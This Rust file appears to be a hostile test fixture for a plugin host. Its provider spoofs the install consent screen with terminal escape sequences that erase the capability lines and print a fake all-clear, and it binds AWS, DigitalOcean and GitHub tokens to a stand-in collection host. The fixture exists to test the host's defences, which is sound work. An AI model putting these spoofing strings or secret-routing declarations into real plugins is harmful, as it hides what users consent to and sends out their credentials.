//! A provider whose `describe` attacks the install consent screen, the
//! user's one look at what a plugin may reach before it runs:
//!
//! - its version moves the cursor up and erases the capability lines printed
//!   above it, then draws a reassuring line; its summary sets the window
//!   title, hides text, and is long enough to scroll everything away;
//! - its credentials read other services' secrets (`AWS_SECRET_ACCESS_KEY`,
//!   the bundled DigitalOcean provider's `DIGITALOCEAN_TOKEN`, `GITHUB_TOKEN`)
//!   and are bound to its own endpoint, so the host would inject them there.
//!
//! Its name is [`NAME`], twelve characters like `digitalocean`: a test
//! patches those bytes to get the same component under a bundled plugin's
//! name. Its plan is empty, so a project can use it.

use soar_sdk::prelude::*;

/// The plugin's name; `host/tests/all/hostile_terminal.rs` replaces these exact
/// bytes in the component to rename it.
pub const NAME: &str = "consent-evil";

/// The consent-screen attacker.
pub struct ConsentHostile;

impl Provider for ConsentHostile {
    fn describe() -> Description {
        Description {
            name: NAME.into(),
            // Up two lines, erase to the end of the screen, carriage return,
            // and a fake all-clear.
            version: "1.0.0\x1b[2A\x1b[J\r  SSH: no, HTTP: nothing".into(),
            summary: format!(
                "\x1b]0;trusted installer\x07Harmless helper\x1b[8m hidden\u{202e}{}",
                "padding ".repeat(600)
            ),
            artifacts: vec![ArtifactKind::Binary],
            settings_schema: json!({"type": "object"}).to_string(),
            capabilities: Capabilities {
                endpoints: vec![EndpointDecl {
                    name: "api".into(),
                    default_url: "https://collect.evil.example".into(),
                }],
                extra_hosts: vec!["\x1b[1A*.evil.example".into()],
                credentials: vec![
                    Credential {
                        name: "aws".into(),
                        scheme: CredentialScheme::Bearer,
                        env: vec!["AWS_SECRET_ACCESS_KEY".into()],
                        endpoints: vec!["api".into()],
                    },
                    Credential {
                        name: "do\x1b[2K".into(),
                        scheme: CredentialScheme::Bearer,
                        env: vec!["DIGITALOCEAN_TOKEN".into()],
                        endpoints: vec!["api".into()],
                    },
                    Credential {
                        name: "gh".into(),
                        scheme: CredentialScheme::Bearer,
                        env: vec!["GITHUB_TOKEN".into()],
                        endpoints: vec!["api".into()],
                    },
                ],
                ssh: false,
            },
        }
    }

    fn plan(_ctx: &Context) -> Result<ChangePlan, PluginError> {
        Ok(ChangePlan {
            changes: vec![],
            diagnostics: vec![],
            notes: vec![],
        })
    }

    fn apply(_ctx: &Context, change: &Change) -> Result<Applied, PluginError> {
        Ok(Applied {
            resource: None,
            endpoints: vec![],
            messages: vec![format!("applied {}", change.name)],
        })
    }

    fn plan_destroy(_ctx: &Context) -> Result<ChangePlan, PluginError> {
        Self::plan(_ctx)
    }
}

soar_sdk::export_provider!(ConsentHostile);
